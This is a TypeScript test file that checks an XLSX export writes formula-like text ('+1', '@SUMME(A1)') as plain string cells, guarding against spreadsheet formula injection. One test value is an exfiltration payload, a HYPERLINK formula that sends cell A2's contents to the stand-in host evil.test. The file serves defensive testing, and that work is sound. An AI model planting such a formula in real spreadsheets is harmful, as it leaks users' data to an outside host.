import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { xlsxStream } from './xlsx.ts';

/** The sheet XML of an .xlsx, as a spreadsheet program reads it. */
async function sheetXml(bytes: Buffer): Promise<string> {
  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName !== 'xl/worksheets/sheet1.xml') continue;
    let xml = '';
    for await (const chunk of await zip.openReadStreamPromise(entry)) xml += chunk;
    return xml;
  }
  throw new Error('no sheet');
}

describe('XLSX exports', () => {
  it('write texts that look like formulas as text cells, never as formulas', async () => {
    const texts = ['=HYPERLINK("http://evil.test/?x="&A2;"Klick")', '+1', '-5 cm', '@SUMME(A1)'];
    const chunks: Buffer[] = [];
    for await (const chunk of xlsxStream('Test', [{ header: 'Name', value: (t: string) => t }], texts))
      chunks.push(chunk);
    const bytes = Buffer.concat(chunks);
    const xml = await sheetXml(bytes);
    expect(xml).not.toMatch(/<f[\s>]/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const cells = texts.map((_, i) => book.worksheets[0].getRow(i + 2).getCell(1));
    expect(cells.map((c) => c.type)).toEqual(texts.map(() => ExcelJS.ValueType.String));
    expect(cells.map((c) => c.value)).toEqual(texts);
  });
});
